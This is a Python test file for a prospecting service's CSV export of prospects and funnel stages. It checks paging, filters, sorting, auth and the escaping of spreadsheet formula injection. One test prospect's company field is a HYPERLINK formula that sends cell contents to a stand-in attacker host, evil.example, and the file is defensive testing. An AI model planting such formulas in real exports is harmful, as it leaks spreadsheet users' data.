"""CSV exports (issue 14) of prospects and the funnel: streamed, the list's filters, formula
injection escaped; the CSV is parsed back."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import httpx
import pytest

from services.prospecting import service
from shared.contracts.journey import StageChange
from shared.csv_export import safe_cell
from tests.support.apps import Api, ServiceApp

SQLITE = pytest.mark.parametrize("database_urls", ["sqlite"], indirect=True)


def parse(r: httpx.Response) -> list[dict[str, str]]:
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in r.headers["content-disposition"]
    return list(csv.DictReader(io.StringIO(r.text)))


def test_formula_cells_are_escaped_and_numbers_kept() -> None:
    assert [safe_cell(v) for v in ("=1+1", "+1", "-x", "@SUM(A1)", "\tx", "ok", -5, None)] == [
        "'=1+1",
        "'+1",
        "'-x",
        "'@SUM(A1)",
        "'\tx",
        "ok",
        -5,
        "",
    ]


@pytest.mark.asyncio
@SQLITE
async def test_prospects_and_the_funnel_export_as_csv(service_app: ServiceApp, api: Api) -> None:
    app = await service_app("prospecting", export_page_size=4)  # several pages
    http = await api(app)
    names = [f"P{i:02d}" for i in range(10)]
    for i, name in enumerate(names):
        company = '=HYPERLINK("https://evil.example/?"&A1,"x")' if i == 0 else f"Co {i}"
        body = {
            "first_name": name,
            "last_name": "-Tester" if i == 1 else "Tester",
            "email": f"p{i}@example.com",
            "company": company,
            "source": "referral" if i % 2 else "cold",
        }
        r = await http.post("/prospects", json=body)
        assert r.status_code == 201, r.text

    rows = parse(await http.get("/exports/prospects.csv"))
    assert [r["first_name"] for r in rows] == names  # every page, in the list's order
    assert rows[0]["company"] == '\'=HYPERLINK("https://evil.example/?"&A1,"x")'
    assert rows[1]["last_name"] == "'-Tester"
    assert rows[2]["fit_score"] == "0" and rows[2]["email"] == "p2@example.com"
    # the list's filters and sort
    referral = parse(await http.get("/exports/prospects.csv", params={"source": "referral"}))
    listed = (await http.get("/prospects", params={"source": "referral", "limit": 200})).json()
    assert [r["id"] for r in referral] == [p["id"] for p in listed["items"]]
    newest = parse(await http.get("/exports/prospects.csv", params={"sort": "-created_at"}))
    assert [r["first_name"] for r in newest] == names[::-1]
    bad = await http.get("/exports/prospects.csv", params={"sort": "name"})
    assert bad.status_code == 422
    rep = await api(app, key=False)
    assert (await rep.get("/exports/prospects.csv")).status_code == 401

    # the funnel: one row per stage, as GET /funnel counts it
    async with app.state.sessions() as session:
        for i, row in enumerate(rows[:3]):
            change = StageChange(
                key=f"k{i}",
                prospect_id=row["id"],
                from_stage="prospecting",
                to_stage="contacting",
                cause="first touch",
                at=datetime.now(UTC).isoformat(),
            )
            await service.record_stage(session, change)
        await session.commit()
    funnel = parse(await http.get("/exports/funnel.csv"))
    by_stage = {r["stage"]: r for r in funnel}
    assert by_stage["prospecting"]["left"] == "3" and by_stage["contacting"]["entered"] == "3"
    assert {r["group"] for r in funnel} == {"all"}
    by_source = parse(await http.get("/exports/funnel.csv", params={"group_by": "source"}))
    assert {r["group"] for r in by_source} == {"cold", "referral"}
    assert (await http.get("/exports/funnel.csv", params={"from": "nope"})).status_code == 422
